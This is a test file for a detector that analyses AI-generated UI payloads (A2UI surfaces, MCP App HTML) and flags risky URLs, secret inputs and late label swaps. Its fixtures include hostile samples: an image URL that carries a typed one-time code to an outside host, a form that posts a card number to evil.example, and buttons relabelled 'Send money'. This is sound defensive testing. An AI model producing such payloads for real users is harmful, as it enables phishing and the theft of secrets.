import { expect, test } from "vitest";
import type { JsonValue } from "@countersign/core";
import { createSurfaceModel } from "../index.js";
import type { SurfaceFacts, SurfaceModel } from "../index.js";

const CATALOGUE = "https://a2ui.org/specification/v0_9/basic_catalog.json";
const create = (surfaceId = "s", more: object = {}): JsonValue => ({
  version: "v0.9",
  createSurface: { surfaceId, catalogId: CATALOGUE, ...more },
});
const update = (components: object[], surfaceId = "s"): JsonValue =>
  ({ version: "v0.9", updateComponents: { surfaceId, components } }) as JsonValue;
const data = (value: JsonValue, path = "/", surfaceId = "s"): JsonValue => ({
  version: "v0.9",
  updateDataModel: { surfaceId, path, value },
});
const BUTTON = [
  {
    id: "root",
    component: "Button",
    child: "t",
    action: { event: { name: "approve", context: { id: { path: "/id" } } } },
  },
  { id: "t", component: "Text", text: "View invoice" },
];

function show(model: SurfaceModel, operations: JsonValue[], messageId = "m"): SurfaceFacts {
  return model.apply({
    kind: "activity",
    messageId,
    activityType: "a2ui-surface",
    content: { a2ui_operations: operations },
  });
}
const codes = (facts: SurfaceFacts): string[] => facts.problems.map(({ code }) => code);
const labels = (facts: SurfaceFacts): Record<string, string> =>
  Object.fromEntries(facts.components.map(({ id, label }) => [id, label]));

test("a late label changes the button that it is on", () => {
  const model = createSurfaceModel();
  show(model, [create(), update(BUTTON)]);
  const facts = show(model, [
    create(),
    update(BUTTON),
    update([{ id: "t", component: "Text", text: "Delete all" }]),
  ]);
  expect(labels(facts)).toEqual({ t: "Delete all", root: "Delete all" });
});

test("a late action changes the button that has the label", () => {
  const model = createSurfaceModel();
  show(model, [create(), update(BUTTON)]);
  const facts = show(model, [
    create(),
    update([{ ...BUTTON[0], action: { event: { name: "pay" } } }]),
  ]);
  expect(facts.components.map(({ id, label, actions }) => [id, label, actions[0]?.name])).toEqual([
    // A page that is opened now has no label for it.
    ["root", "", "pay"],
    ["root", "View invoice", "pay"],
  ]);
});

test("a snapshot that leaves out components or data is also read as a page that is opened now draws it", () => {
  const row = { id: "row", component: "Row", children: ["t", "more"] };
  const button = { ...BUTTON[0], child: "row" };
  const text = { id: "t", component: "Text", text: "View" };
  const more = { id: "more", component: "Text", text: { path: "/more" } };
  const whole = [update([button, row, text, more]), data({ more: "Delete" })];
  for (const left of [[update([button, row, text])], [update([button, row, text, more])]]) {
    const model = createSurfaceModel();
    show(model, [create(), ...whole]);
    expect(show(model, [create(), ...whole]).components).toEqual([]);
    expect(labels(show(model, [create(), ...left]))).toMatchObject({ root: "View" });
    expect(model.component("s", "root")?.label).toBe("View Delete");
  }
});

test("operations in a text with a duplicate key are undecided", () => {
  const text = JSON.stringify([create(), update(BUTTON)]);
  const twice = text.replace('"name":"approve"', '"name":"pay","name":"approve"');
  for (const [operations, isUndecided] of [
    [text, false],
    [twice, true],
  ] as const) {
    const facts = createSurfaceModel().apply({
      kind: "activity",
      messageId: "m",
      activityType: "a2ui-surface",
      content: { a2ui_operations: operations },
    });
    expect(facts.problems.some((problem) => problem.isUndecided)).toBe(isUndecided);
    expect(facts.components).toHaveLength(2);
  }
});

test("a repeated snapshot changes nothing", () => {
  const model = createSurfaceModel();
  const operations = [create(), update(BUTTON), data({ id: 7 })];
  show(model, operations);
  const facts = show(model, operations);
  expect(facts.components).toEqual([]);
  expect(facts.removed).toEqual([]);
});

test("a click is found while its button is drawn", () => {
  const model = createSurfaceModel();
  show(model, [create(), update(BUTTON), data({ id: 7 })]);
  expect(model.findAction("s", "root", "approve")).toMatchObject({
    label: "View invoice",
    action: { contextKeys: ["id"], context: { id: 7 } },
  });
  expect(model.findAction("s", "root", "pay")).toBeUndefined();
  expect(model.findAction("other", "root", "approve")).toBeUndefined();
  show(model, [{ version: "v0.9", deleteSurface: { surfaceId: "s" } }]);
  expect(model.findAction("s", "root", "approve")).toBeUndefined();
});

test("a drawing is what a message shows now, from the root down, and no longer than asked for", () => {
  const model = createSurfaceModel();
  const twice = { id: "root", component: "Row", children: ["b", "b", "list"] };
  const list = { id: "list", component: "List", children: { componentId: "t", path: "/all" } };
  const parts = [twice, { ...BUTTON[0], id: "b" }, BUTTON[1] as object, list];
  show(model, [create(), update(parts), data({ all: [1, 2] })]);
  const drawn = (most: number) =>
    model
      .drawings("m", most)
      .map(({ components, isCut, surface: { surfaceId } }) => [
        surfaceId,
        components.map(({ component: { id }, depth }) => `${depth}${id}`).join(" "),
        isCut,
      ]);
  const all = "0root 1b 2t 1b 2t 1list 2t 2t";
  expect(drawn(8)).toEqual([["s", all, false]]);
  expect(drawn(7)).toEqual([["s", all.slice(0, -3), true]]);
  show(model, [create(), update(BUTTON)]);
  expect(drawn(9)).toEqual([["s", "0root 1t", false]]);
  model.undo();
  expect(drawn(9)).toEqual([["s", all, false]]);
  show(model, []);
  expect(drawn(9)).toEqual([]);
});

test("a surface that a snapshot does not name any more is gone", () => {
  const model = createSurfaceModel();
  show(model, [create(), update(BUTTON)]);
  const facts = show(model, [
    create("other"),
    update([{ id: "root", component: "Text", text: "x" }], "other"),
  ]);
  expect(facts.removed.map(({ componentId }) => componentId)).toEqual(["s/root", "s/t"]);
});

test("an activity that stops being a surface is gone", () => {
  const model = createSurfaceModel();
  show(model, [create(), update(BUTTON)]);
  const facts = model.apply({
    kind: "activity",
    messageId: "m",
    activityType: "plan",
    content: { steps: [] },
  });
  expect(facts.removed).toHaveLength(2);
  expect(model.surfaces).toEqual([]);
});

test("operations count under every activity type", () => {
  const model = createSurfaceModel();
  const content = { a2ui_operations: [create(), update(BUTTON)] };
  const facts = model.apply({ kind: "activity", messageId: "m", activityType: "plan", content });
  expect(facts.components).toHaveLength(2);
});

test("openUrl is resolved before a click, and in a text without one", () => {
  const model = createSurfaceModel();
  const facts = show(model, [
    create(),
    update([
      { id: "root", component: "Column", children: ["b", "t"] },
      {
        id: "b",
        component: "Button",
        child: "t",
        action: {
          functionCall: {
            call: "openUrl",
            args: { url: { call: "formatString", args: { value: "https://${/host}/a" } } },
          },
        },
      },
      {
        id: "t",
        component: "Text",
        text: { call: "formatString", args: { value: "Hi ${openUrl(url: '//evil.example')}" } },
      },
    ]),
    data({ host: "bank.example" }),
  ]);
  const byId = new Map(facts.components.map((one) => [one.id, one]));
  expect(byId.get("b")).toMatchObject({
    classification: "navigate",
    urls: [{ value: "https://bank.example/a", use: "open", dataPaths: ["/host"] }],
  });
  expect(byId.get("t")).toMatchObject({
    classification: "navigate",
    urls: [{ value: "//evil.example", use: "open" }],
  });
});

test("an address made of what a person types says so", () => {
  const model = createSurfaceModel();
  const facts = show(model, [
    create(),
    update([
      { id: "root", component: "Column", children: ["i", "f"] },
      {
        id: "i",
        component: "Image",
        url: { call: "formatString", args: { value: "https://e.example/?q=${/pw}" } },
      },
      {
        id: "f",
        component: "TextField",
        label: "One-time code",
        variant: "obscured",
        value: { path: "/pw" },
      },
    ]),
  ]);
  const byId = new Map(facts.components.map((one) => [one.id, one]));
  expect(byId.get("i")?.urls).toMatchObject([{ use: "image", isExact: false, dataPaths: ["/pw"] }]);
  expect(byId.get("f")?.inputs).toMatchObject([
    { label: "One-time code", isSecret: true, boundPath: "/pw" },
  ]);
});

test.each([
  ["a result that is operations", JSON.stringify({ a2ui_operations: [create(), update(BUTTON)] })],
  ["a list of operations", JSON.stringify([create(), update(BUTTON)])],
  [
    "an embedded resource",
    {
      content: [
        {
          type: "resource",
          resource: {
            uri: "a2ui://s",
            mimeType: "application/a2ui+json",
            text: JSON.stringify([create(), update(BUTTON)]),
          },
        },
      ],
    },
  ],
  [
    "a blob",
    {
      content: [
        {
          type: "resource",
          resource: {
            uri: "a2ui://s",
            mimeType: "application/a2ui+json",
            blob: btoa(JSON.stringify([create(), update(BUTTON)])),
          },
        },
      ],
    },
  ],
  [
    "a text part",
    [{ type: "text", text: JSON.stringify({ a2ui_operations: [create(), update(BUTTON)] }) }],
  ],
  [
    "escaped names",
    '{"a2ui\\u005foperations":[{"createSurface":{"surfaceId":"s"}},' +
      JSON.stringify(update(BUTTON)) +
      "]}",
  ],
])("a tool result becomes UI: %s", (_, content) => {
  const facts = createSurfaceModel().apply({
    kind: "result",
    toolCallId: "c",
    content: content as JsonValue,
  });
  expect(labels(facts)).toMatchObject({ root: "View invoice" });
  expect(facts.problems.some(({ isUndecided }) => isUndecided)).toBe(false);
});

test("an ordinary result is not read as a surface", () => {
  for (const content of [
    "42",
    "done",
    '{"status":"ok","items":[1]}',
    { content: [{ type: "text", text: "a2ui_operations" }] },
  ]) {
    expect(createSurfaceModel().apply({ kind: "result", toolCallId: "c", content }).isSurface).toBe(
      false,
    );
  }
});

const PAY = { ...BUTTON[0], action: { event: { name: "pay" } } } as (typeof BUTTON)[number];
const BOUND = { id: "t", component: "Text", text: { path: "/title" } } as (typeof BUTTON)[number];
const title = (value: string): JsonValue => ({
  version: "v0.9",
  updateDataModel: { surfaceId: "s", path: "/title", value },
});

test.each<[string, JsonValue[], JsonValue[], object]>([
  ["a button", [update(BUTTON)], [update([PAY])], { label: "View invoice", action: "pay" }],
  [
    "a label alone",
    [update([PAY, { id: "t", component: "Text", text: "Pay now" }])],
    [update([{ id: "t", component: "Text", text: "View invoice" }])],
    { label: "View invoice", action: "pay" },
  ],
  [
    "a button that is bound to data",
    [update([PAY, BOUND]), title("View invoice")],
    [update([PAY, BOUND])],
    { label: "View invoice", action: "pay" },
  ],
  [
    "data alone",
    [update([PAY, BOUND]), title("Pay now")],
    [title("View invoice")],
    { label: "View invoice", action: "pay" },
  ],
])(
  "a surface that is created again in another message is judged together with the first: %s",
  (_, first, second, seen) => {
    const model = createSurfaceModel();
    show(model, [create(), ...first]);
    const { components } = show(model, [create(), ...second], "a later message");
    const buttons = components.map(({ label, actions }) => ({ label, action: actions[0]?.name }));
    expect(buttons).toContainEqual(seen);
    model.undo();
    expect(show(model, [create(), ...second], "a later message").components).toEqual(components);
  },
);

test("a surface that another message draws again whole has no further readings", () => {
  const model = createSurfaceModel();
  show(model, [create(), update(BUTTON)]);
  const facts = show(model, [create(), update(BUTTON)], "a later message");
  expect(facts.components.map(({ id }) => id).toSorted()).toEqual(["root", "t"]);
  expect(facts.problems).toEqual([]);
});

test("a result that only lenient parsers read is undecided", () => {
  const text = `{"a2ui_operations":[],"a2ui_operations":[${JSON.stringify(create())},${JSON.stringify(update(BUTTON))}]}`;
  const facts = createSurfaceModel().apply({ kind: "result", toolCallId: "c", content: text });
  expect(facts.problems).toMatchObject([{ code: "surface/unreadable", isUndecided: true }]);
});

test("streamed arguments draw once the components are complete", () => {
  const text = JSON.stringify({ surfaceId: "s", components: BUTTON, data: { id: 1 } });
  const model = createSurfaceModel();
  const drawn: number[] = [];
  for (let end = 1; end <= text.length; end += 7) {
    const facts = model.apply({
      kind: "arguments",
      toolCallId: "c",
      name: "render_a2ui",
      text: text.slice(0, end),
      complete: false,
    });
    if (facts.components.length > 0) drawn.push(end);
    expect(facts.problems).toEqual([]);
  }
  const last = model.apply({
    kind: "arguments",
    toolCallId: "c",
    name: "render_a2ui",
    text,
    complete: true,
  });
  expect(model.findAction("s", "root", "approve")?.action.context).toEqual({ id: 1 });
  expect(Math.min(...drawn, text.length)).toBeGreaterThan(text.indexOf("View invoice"));
  expect(last.problems).toEqual([]);
});

test("arguments of other tools are not read", () => {
  const facts = createSurfaceModel().apply({
    kind: "arguments",
    toolCallId: "c",
    name: "search",
    text: "{",
    complete: true,
  });
  expect(facts.isSurface).toBe(false);
});

test("arguments that are not JSON are undecided", () => {
  const facts = createSurfaceModel().apply({
    kind: "arguments",
    toolCallId: "c",
    name: "render_a2ui",
    text: '{"surfaceId":"s","surfaceId":"t"}',
    complete: true,
  });
  expect(facts.problems[0]).toMatchObject({ code: "surface/unreadable", isUndecided: true });
});

test("a surface of 1.0 is created with components and data", () => {
  const facts = show(createSurfaceModel(), [
    {
      version: "v1.0",
      createSurface: {
        surfaceId: "s",
        sendDataModel: true,
        components: BUTTON,
        dataModel: { id: 3 },
      },
    } as JsonValue,
  ]);
  expect(labels(facts)).toMatchObject({ root: "View invoice" });
  expect(facts.surfaces).toMatchObject([{ version: "1.0", sendDataModel: true }]);
  expect(facts.components[0]?.actions[0]?.context).toEqual({ id: 3 });
});

test("a component of another catalogue says so, and is read in full", () => {
  const facts = show(createSurfaceModel(), [
    create(),
    update([
      {
        id: "root",
        component: "Wizard",
        catalogId: "https://x.example/c.json",
        steps: [{ page: "p" }],
        title: "Win",
        link: "https://evil.example/x",
        action: { event: { name: "go" } },
      },
      { id: "p", component: "Text", text: "inside" },
    ]),
  ]);
  expect(facts.components[0]).toMatchObject({
    catalogueId: "https://x.example/c.json",
    classification: "submit",
    label: expect.stringContaining("Win") as string,
    urls: [{ value: "https://evil.example/x" }],
  });
  expect(facts.components[0]?.label).toContain("inside");
  expect(codes(facts)).toEqual(
    expect.arrayContaining(["surface/catalogue-override", "surface/assumed-component"]),
  );
});

test("callRendererFunction is a fact of the payload", () => {
  const facts = show(createSurfaceModel(), [
    {
      version: "v1.0",
      functionCallId: "1",
      callFunction: { call: "openUrl", args: { url: "https://evil.example" } },
    },
  ]);
  expect(facts.functionCalls).toMatchObject([
    { name: "openUrl", args: { url: "https://evil.example" } },
  ]);
});

test.each<[string, JsonValue[], string, boolean]>([
  ["unknown operation", [{ version: "v0.9", patchSurface: {} }], "surface/unknown-operation", true],
  [
    "two kinds",
    [{ createSurface: { surfaceId: "s" }, deleteSurface: { surfaceId: "s" } }],
    "surface/ambiguous-operation",
    true,
  ],
  [
    "unknown version",
    [{ version: "v7", createSurface: { surfaceId: "s" } }],
    "surface/unknown-version",
    true,
  ],
  ["update before create", [update(BUTTON)], "surface/update-before-create", false],
  ["created twice", [create(), create()], "surface/duplicate-surface", false],
  [
    "a component twice",
    [create(), update([...BUTTON, ...BUTTON])],
    "surface/duplicate-component",
    false,
  ],
  ["a component without type", [create(), update([{ id: "root" }])], "surface/missing-type", true],
  [
    "a changed type",
    [create(), update(BUTTON), update([{ id: "root", component: "Text", text: "x" }])],
    "surface/changed-type",
    false,
  ],
  ["a missing child", [create(), update(BUTTON.slice(0, 1))], "surface/unresolved-child", false],
  [
    "a cycle",
    [create(), update([{ id: "root", component: "Card", child: "root" }])],
    "surface/cycle",
    true,
  ],
  [
    "data through a text",
    [create(), data("x", "/a"), data(1, "/a/b")],
    "surface/malformed-data",
    true,
  ],
  [
    "an unclosed expression",
    [
      create(),
      update([
        { id: "root", component: "Text", text: { call: "formatString", args: { value: "${a" } } },
      ]),
    ],
    "surface/malformed-expression",
    false,
  ],
  [
    "an unknown function in a URL",
    [create(), update([{ id: "root", component: "Image", url: { call: "where", args: {} } }])],
    "surface/unknown-url",
    true,
  ],
])("reports %s", (_, operations, code, isUndecided) => {
  expect(show(createSurfaceModel(), operations).problems).toContainEqual(
    expect.objectContaining({ code, isUndecided }),
  );
});

test("a surface of another message is changed in what is judged", () => {
  const model = createSurfaceModel();
  show(model, [create(), update(BUTTON)]);
  const facts = show(model, [update([{ id: "t", component: "Text", text: "Send money" }])], "m2");
  expect(codes(facts)).toContain("surface/foreign-update");
  expect(labels(facts)).toMatchObject({ root: "Send money" });
});

test("an MCP App is one component of its address", () => {
  const facts = createSurfaceModel().apply({
    kind: "activity",
    messageId: "m",
    activityType: "mcp-apps",
    content: {
      result: { content: [{ type: "text", text: "3 rooms" }] },
      resourceUri: "ui://hotel/view",
      serverHash: "h",
      serverId: "hotel",
      toolInput: { city: "Rome" },
    },
  });
  expect(facts.components).toMatchObject([
    { componentType: "mcp-app:ui://hotel/view", componentId: "m", texts: ["Rome", "3 rooms"] },
  ]);
  expect(facts.surfaces).toMatchObject([
    { app: { resourceUri: "ui://hotel/view", serverId: "hotel", serverHash: "h" } },
  ]);
});

test("the HTML of an MCP App has its domains, forms and scripts", () => {
  const html =
    '<form action="https://evil.example/f"><label>Card number</label><input name=pan type=password></form><script src="//cdn.example/a.js">fetch("https://x.example/")</script>';
  const facts = createSurfaceModel().apply({
    kind: "resource",
    sourceId: "run",
    content: {
      contents: [
        {
          uri: "ui://hotel/view",
          mimeType: "text/html;profile=mcp-app",
          text: html,
          _meta: {
            ui: {
              csp: { connectDomains: ["https://api.example; script-src *"] },
              permissions: { camera: {} },
            },
          },
        },
      ],
    },
  });
  const [component] = facts.components;
  expect(component?.inputs).toMatchObject([{ label: "Card number", id: "pan", isSecret: true }]);
  expect(component?.urls.map(({ use, value }) => `${use} ${value}`)).toEqual([
    "connect https://api.example; script-src *",
    "submit https://evil.example/f",
    "script //cdn.example/a.js",
    "load https://x.example/",
  ]);
  expect(facts.surfaces[0]?.html).toMatchObject({ forms: 1, scripts: 1 });
});

test("open generative UI is judged as it grows, whatever the activity is called", () => {
  const model = createSurfaceModel();
  const apply = (activityType: string, content: JsonValue): SurfaceFacts =>
    model.apply({ kind: "activity", messageId: "c-activity", activityType, content });
  apply("open-generative-ui", { initialHeight: 400, generating: true });
  apply("open-generative-ui", { initialHeight: 400, generating: true, html: ["<p>Hel", "lo</p>"] });
  const facts = apply("other", {
    initialHeight: 400,
    generating: false,
    html: ["<p>Hel", "lo</p>", "<input type=password>"],
    css: "a{background:url(https://t.example/x)}",
  });
  expect(facts.components).toMatchObject([
    {
      componentType: "html-sandbox:c-activity",
      classification: "submit",
      texts: ["Hello"],
      urls: [{ value: "https://t.example/x" }],
    },
  ]);
  expect(facts.surfaces[0]?.html?.isComplete).toBe(true);
});

test("operations beside HTML are judged, and gone when only HTML is left", () => {
  const model = createSurfaceModel();
  const html = { html: "<p>x</p>", generating: true };
  const apply = (content: JsonValue): SurfaceFacts =>
    model.apply({ kind: "activity", messageId: "m", activityType: "a2ui-surface", content });
  const both = apply({ ...html, a2ui_operations: [create(), update(BUTTON)] });
  expect(labels(both)).toMatchObject({ root: "View invoice" });
  const facts = apply(html);
  expect(facts.removed.map(({ componentId }) => componentId)).toEqual(["s/root", "s/t"]);
  expect(model.findAction("s", "root", "approve")).toBeUndefined();
});

test("a URL that is bound to a list is also read as a browser loads it", () => {
  const image = { id: "root", component: "Image", url: { path: "/url" }, description: "" };
  const facts = show(createSurfaceModel(), [
    create(),
    update([image]),
    data({ url: ["https://foreign.example/x"] }),
  ]);
  expect(facts.components.flatMap(({ urls }) => urls.map(({ value }) => value))).toEqual([
    '["https://foreign.example/x"]',
    "https://foreign.example/x",
  ]);
});

test.each<[string, JsonValue]>([
  ["an object", { html: { inner: "<form></form>" } }],
  ["a list", { html: ["<form></form>"] }],
  ["a number", { jsFunctions: 7 }],
  ["a list with an object", { html: "", jsExpressions: [{ inner: "go()" }] }],
  ["a text in place of a list", { html: "", placeholderMessages: "wait" }],
])("arguments of a sandbox with %s are undecided", (_, value) => {
  const text = JSON.stringify(value);
  const call = { toolCallId: "c", name: "generateSandboxedUi", text, complete: true };
  const { problems } = createSurfaceModel().apply({ kind: "arguments", ...call });
  expect(problems).toMatchObject([{ code: "surface/unreadable", isUndecided: true }]);
});
